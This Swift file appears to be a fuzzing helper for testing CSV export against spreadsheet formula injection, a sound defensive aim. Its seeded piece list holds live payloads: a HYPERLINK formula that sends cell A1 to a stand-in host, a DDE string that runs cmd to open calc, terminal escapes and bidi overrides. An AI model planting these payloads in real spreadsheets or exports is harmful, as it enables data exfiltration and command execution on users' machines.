/// Seeded strings built from the pieces attackers use: formula starts, quotes, separators, line breaks of
/// every kind, terminal escapes, C1 controls, bidi overrides, wide and combining characters.
public struct HostileStrings {
    /// Pieces that may start a string; the formula characters and quotes come often.
    public static let starts: [String] = ["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'+", "'-", "'@", "\"", " ", "\u{3000}"]
    /// Every other piece.
    public static let pieces: [String] = starts + [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "@SUM(1+1)*cmd|' /C calc'!A0", ",", ";", "、", "\n", "\r\n", "\u{85}",
        "\u{2028}", "\u{2029}", "\u{1b}[2J", "\u{1b}]0;pwned\u{07}", "\u{7f}", "\u{9b}31m", "\u{0}", "\u{8}", "\u{202e}",
        "\u{202a}", "\u{2066}", "\u{2069}", "\u{200f}", "甲", "申", "办理", "答复", "〔2025〕", "é", "e\u{301}", "😀", "a", "Z", "1", "\\", "/",
        "“", "…", "—",
    ]

    var rng: SplitMix64

    public init(seed: UInt64) { rng = SplitMix64(seed: seed) }

    /// One string of up to `maxPieces` pieces, usually starting with a formula character or a quote.
    public mutating func next(maxPieces: Int = 8) -> String {
        var s = Int.random(in: 0..<4, using: &rng) == 0 ? "" : Self.starts.randomElement(using: &rng)!
        for _ in 0..<Int.random(in: 0...maxPieces, using: &rng) { s += Self.pieces.randomElement(using: &rng)! }
        return s
    }

    /// A string with none of the line breaks a single-line field refuses.
    public mutating func nextLine(maxPieces: Int = 8) -> String {
        String(String.UnicodeScalarView(next(maxPieces: maxPieces).unicodeScalars.filter {
            !["\n", "\r", "\u{85}", "\u{2028}", "\u{2029}"].contains($0)
        }))
    }
}

/// Cells as a spreadsheet sees them: RFC 4180 unquoting only, independent of `CSV`, which also restores.
public func rawCSVCells(_ text: String) -> [String] {
    var cells: [String] = [], cell = "", inQuotes = false
    var s = Substring(text.hasPrefix("\u{FEFF}") ? String(text.dropFirst()) : text).unicodeScalars[...]
    while let c = s.popFirst() {
        if inQuotes {
            if c == "\"" {
                if s.first == "\"" { cell.unicodeScalars.append(s.removeFirst()) } else { inQuotes = false }
            } else {
                cell.unicodeScalars.append(c)
            }
        } else if c == "\"" {
            inQuotes = true
        } else if c == "," || c == "\n" {
            cells.append(cell)
            cell = ""
        } else if c == "\r", s.first == "\n" {
            continue
        } else {
            cell.unicodeScalars.append(c)
        }
    }
    return cells
}

/// True when a spreadsheet would run `cell` as a formula: it starts with one of OWASP's characters.
public func startsAFormula(_ cell: String) -> Bool {
    cell.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false
}
